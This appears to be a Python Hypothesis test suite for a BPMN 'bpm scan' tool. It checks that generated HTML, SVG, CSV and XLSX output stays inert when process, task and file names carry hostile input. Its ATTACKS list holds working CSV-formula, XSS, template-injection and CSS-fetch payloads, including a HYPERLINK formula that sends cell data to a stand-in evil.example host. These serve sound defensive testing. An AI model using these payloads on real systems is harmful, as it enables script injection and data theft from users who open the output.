"""Hostile input, output side: whatever names, texts and file names a model carries, what we write is inert.

Generated models (Hypothesis, derandomised, a bounded number of examples) with
attack strings in every user-visible text — process, lane, task and flow
names, ids, the file name, the report title — go through the real ``bpm
scan``.  For each, the run ends with exit 0 or 1 (1 only with a one-line
``file:line: message``), never 3 or a traceback, within a time bound; and
then in everything it wrote:

* no CSV or XLSX cell starts a formula;
* no page or SVG holds a script other than ``static/site.js``, an event
  handler attribute, a URL with a scheme (``javascript:``, ``http:``, ``data:``,
  ``//host``), ``url(…)``/``@import`` in a style, or an element that loads or
  navigates (iframe, object, embed, base, form, meta refresh);
* every page carries the strict Content-Security-Policy.

One more run, in a separate process under a 2 GB address-space limit and a
timeout, takes all attack strings at once (the memory bound).
"""

from __future__ import annotations

import csv
import io
import itertools
import os
import re
import resource
import subprocess
import sys
import tempfile
import time
import unicodedata
from dataclasses import dataclass
from pathlib import Path

import html5lib  # type: ignore[import-untyped]
from click.testing import CliRunner
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl import load_workbook

from bpm.cli import main

REPO = Path(__file__).resolve().parents[2]
MODEL_NS = "http://www.omg.org/spec/BPMN/20100524/MODEL"
DI_NS = ('xmlns:bpmndi="http://www.omg.org/spec/BPMN/20100524/DI" '
         'xmlns:dc="http://www.omg.org/spec/DD/20100524/DC" xmlns:di="http://www.omg.org/spec/DD/20100524/DI"')
SECONDS_PER_RUN = 120.0
"""A generous bound for one scan of a few tasks on a loaded 2-core CI machine (a normal one takes 2-5 s)."""

# --------------------------------------------------------------------------- strategies

ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝１＋１",
    "＠SUM(A1)",
    "\ufeff=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--",
    "]]>",
    "{{ 7*7 }}{% raw %}",
    "${7*7}",
    "http://evil.example/x.png",
    "//evil.example/x",
    "url(http://evil.example/x)",
    "@import url(http://evil.example/x.css);",
    "expression(alert(1))",
    "<iframe src=http://evil.example>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example">',
    "<base href=http://evil.example/>",
    "\u202eexe.txt",
    "<bpm-csp>",
    "申請書受領",
    "本人確認（窓口）",
)
"""Known attack strings, plus ordinary Japanese names so mixes look like real flows."""


def _xml_char(ch: str) -> bool:
    code = ord(ch)
    return code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code >= 0x10000


texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.tuples(st.sampled_from(ATTACKS), st.sampled_from(ATTACKS)).map("".join),
    st.text(alphabet=st.characters(codec="utf-8").filter(_xml_char), min_size=1, max_size=40),
    st.sampled_from(ATTACKS).map(lambda text: text * 30),  # long: a few hundred characters
).map(lambda text: "".join(ch for ch in text if _xml_char(ch)))

ids = st.one_of(
    st.from_regex(r"[A-Za-z_][A-Za-z0-9_]{0,12}", fullmatch=True),
    st.sampled_from(["x-uketsuke", "受付 1", "<b>", 'a"b', "java script:x", "=id", "on error"]),
)

file_names = st.sampled_from([
    "flow.bpmn", "住民票.bpmn", "=cmd.bpmn", "<script>.bpmn", "a b.bpmn", "a\tb.bpmn", "a\\b.bpmn",
    ".draft.bpmn", "javascript:x.bpmn", "x'.bpmn", "%2e%2e.bpmn", "-rf.bpmn",
])


def attr(text: str) -> str:
    """An XML attribute value that reads back exactly (tabs and line ends as character references)."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return escaped.replace("\t", "&#9;").replace("\n", "&#10;").replace("\r", "&#13;")


@dataclass(frozen=True)
class Model:
    """A generated flow: a start, a chain of tasks, an end; optionally drawn (DI)."""

    process: str
    lane: str
    tasks: tuple[tuple[str, str], ...]
    flow_name: str
    drawn: bool
    file_name: str
    title: str

    def xml(self) -> str:
        ids_ = ["start", *(f"t{i}_{element_id}" for i, (element_id, _) in enumerate(self.tasks)), "end"]
        nodes = ['<startEvent id="start"/>']
        nodes += [f'<userTask id="{attr(ids_[i + 1])}" name="{attr(name)}"/>' for i, (_, name) in enumerate(self.tasks)]
        nodes.append('<endEvent id="end"/>')
        flows = [
            f'<sequenceFlow id="f{i}" name="{attr(self.flow_name) if i == 1 else ""}" '
            f'sourceRef="{attr(a)}" targetRef="{attr(b)}"/>'
            for i, (a, b) in enumerate(itertools.pairwise(ids_))
        ]
        refs = "".join(f"<flowNodeRef>{attr(i)}</flowNodeRef>" for i in ids_)
        lanes = f'<laneSet id="ls"><lane id="lane1" name="{attr(self.lane)}">{refs}</lane></laneSet>'
        di = ""
        if self.drawn:
            shapes = "".join(
                f'<bpmndi:BPMNShape id="s{i}" bpmnElement="{attr(element)}">'
                f'<dc:Bounds x="{80 + 150 * i}" y="80" width="100" height="80"/></bpmndi:BPMNShape>'
                for i, element in enumerate(ids_)
            )
            edges = "".join(
                f'<bpmndi:BPMNEdge id="e{i}" bpmnElement="f{i}"><di:waypoint x="{180 + 150 * i}" y="120"/>'
                f'<di:waypoint x="{230 + 150 * i}" y="120"/></bpmndi:BPMNEdge>'
                for i in range(len(ids_) - 1)
            )
            di = (f'<bpmndi:BPMNDiagram id="d1"><bpmndi:BPMNPlane id="pl" bpmnElement="p1">{shapes}{edges}'
                  "</bpmndi:BPMNPlane></bpmndi:BPMNDiagram>")
        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<definitions xmlns="{MODEL_NS}" {DI_NS} id="defs" '
                f'targetNamespace="http://example.org/x">\n<process id="p1" name="{attr(self.process)}">{lanes}'
                f'{"".join(nodes)}{"".join(flows)}</process>\n{di}</definitions>\n')


models = st.builds(
    Model,
    process=texts,
    lane=texts,
    tasks=st.lists(st.tuples(ids, texts), min_size=1, max_size=3).map(tuple),
    flow_name=texts,
    drawn=st.booleans(),
    file_name=file_names,
    title=texts,
)

# --------------------------------------------------------------------------- checks

FORMULA_START = re.compile(r"^[\s\ufeff\u200b\u3000]*[=+\-@＝＋－＠]|^[\t\r\n]")
SCHEME = re.compile(r"^\s*([a-zA-Z][a-zA-Z0-9+.\-]*:|//|\\\\)")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "poster", "data", "srcset", "background", "ping", "cite",
                  "longdesc", "usemap", "manifest", "codebase", "archive", "lowsrc", "dynsrc"}
LOADING_ELEMENTS = {"iframe", "frame", "object", "embed", "applet", "base", "link", "foreignObject",
                    "animate", "set", "use", "image", "video", "audio", "source", "track", "portal"}
STRICT = ("default-src 'none'", "script-src 'self'", "base-uri 'none'", "form-action 'none'")


def local(name: object) -> str:
    return etree.QName(name).localname if isinstance(name, str) else ""


def check_markup(root: etree._Element, where: str, *, page: bool) -> None:
    """No script but ours, no handler, no URL with a scheme, no loading element, no style that fetches."""
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = local(element.tag)
        if tag == "script":
            assert page and element.get("src") == "static/site.js" and not (element.text or "").strip(), where
        if tag == "link":
            href = element.get("href") or ""
            assert page and element.get("rel") == "stylesheet" and href.startswith("static/"), where
            continue
        if tag == "form":  # the candidate filters: never submitted anywhere (and CSP has form-action 'none')
            assert page and element.get("action") is None and element.get("method") is None, where
            continue
        if tag == "meta":
            equiv = (element.get("http-equiv") or "").lower()
            assert equiv in ("", "content-security-policy"), (where, equiv)
        assert tag not in LOADING_ELEMENTS, (where, tag)
        if tag == "style":
            text = (element.text or "").lower()
            assert "url(" not in text and "@import" not in text and "expression(" not in text, where
        for name, value in element.attrib.items():
            attribute = local(name).lower()
            assert not attribute.startswith("on"), (where, tag, attribute, value)
            text = str(value)
            if attribute in URL_ATTRIBUTES:
                assert not SCHEME.match(text), (where, tag, attribute, text)
            if attribute == "style":
                lowered = text.lower()
                assert "url(" not in lowered and "expression(" not in lowered, (where, value)


def check_site(out: Path) -> None:
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("lxml"), namespaceHTMLElements=False)
    pages = sorted(out.glob("*.html"))
    assert pages
    for page in pages:
        root = parser.parse(page.read_bytes(), transport_encoding="utf-8").getroot()
        policies = [m.get("content") or "" for m in root.iter("meta")
                    if (m.get("http-equiv") or "").lower() == "content-security-policy"]
        assert len(policies) == 1 and all(rule in policies[0] for rule in STRICT), page.name
        assert "'unsafe-inline'" not in policies[0], page.name
        check_markup(root, page.name, page=True)
    svg_parser = etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)
    for drawing in sorted((out / "diagrams").glob("*.svg")) if (out / "diagrams").is_dir() else []:
        check_markup(etree.fromstring(drawing.read_bytes(), svg_parser), drawing.name, page=False)
    check_results(out / "downloads")


def check_results(downloads: Path) -> None:
    data = (downloads / "results.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for value in row:
            number = value.replace(".", "", 1).lstrip("-").replace("e-", "").replace("e+", "")
            if value.startswith("-") and number.isdigit():
                continue  # a negative number, written bare
            assert not FORMULA_START.match(value), value
            assert not FORMULA_START.match(unicodedata.normalize("NFKC", value[:1])), value
    sheet = load_workbook(downloads / "results.xlsx").worksheets[0]
    for cells in sheet.iter_rows():
        for cell in cells:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and FORMULA_START.match(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def check_exit(code: int, stderr: str) -> None:
    assert code in (0, 1), (code, stderr[-2000:])
    assert "Traceback" not in stderr and "internal error" not in stderr, stderr[-2000:]
    if code == 1:
        message = [line for line in stderr.splitlines() if line and not line.startswith(("bpm: note", "bpm: skipped"))]
        assert message and re.match(r"^(bpm: error: |.+?(:\d+)?: ).+", message[-1]), stderr[-2000:]


# --------------------------------------------------------------------------- the suite


@settings(max_examples=12, derandomize=True, deadline=None, database=None,
          phases=(Phase.explicit, Phase.generate),  # no shrinking: each example is a whole scan
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(model=models)
def test_generated_models_give_inert_output(model: Model) -> None:
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch) / "in"
        folder.mkdir()
        (folder / model.file_name).write_text(model.xml(), encoding="utf-8")
        out = Path(scratch) / "site"
        started = time.monotonic()
        result = CliRunner().invoke(
            main, ["-q", "scan", str(folder / model.file_name), "--out", str(out), "--title", model.title]
        )
        assert time.monotonic() - started < SECONDS_PER_RUN
        check_exit(result.exit_code, result.stderr)
        if result.exit_code == 0:
            check_site(out)


def _bounded() -> None:
    """In the child: 2 GB of address space and 300 s of CPU at most."""
    resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))
    resource.setrlimit(resource.RLIMIT_CPU, (300, 300))


def test_every_attack_at_once_in_bounded_memory_and_time(tmp_path: Path) -> None:
    """All attack strings in one flow (names, lanes, flows, ids, file names), in a real process with limits."""
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    for index, attack in enumerate(ATTACKS):
        model = Model(attack, ATTACKS[(index + 1) % len(ATTACKS)],
                      ((f"id{index}", attack), ("x-uketsuke", ATTACKS[(index + 2) % len(ATTACKS)])),
                      ATTACKS[(index + 3) % len(ATTACKS)], index % 2 == 0, "", attack)
        name = re.sub(r"[/\x00]", "_", attack)[:60] or "x"
        (folder / ("sub" if index % 3 == 0 else "") / f"{name}{index}.bpmn").write_text(model.xml(), encoding="utf-8")
    out = tmp_path / "site"
    result = subprocess.run(
        [sys.executable, "-m", "bpm.cli", "scan", str(folder), "--out", str(out), "--title", ATTACKS[0]],
        capture_output=True, text=True, cwd=REPO, timeout=600, preexec_fn=_bounded,
        env={**os.environ, "SOURCE_DATE_EPOCH": "0"},
    )
    check_exit(result.returncode, result.stderr)
    assert result.returncode == 0, result.stderr[-2000:]
    check_site(out)
    assert len(list(out.glob("flow-*.html"))) >= len(ATTACKS) - 2  # hidden-file names are skipped, and said
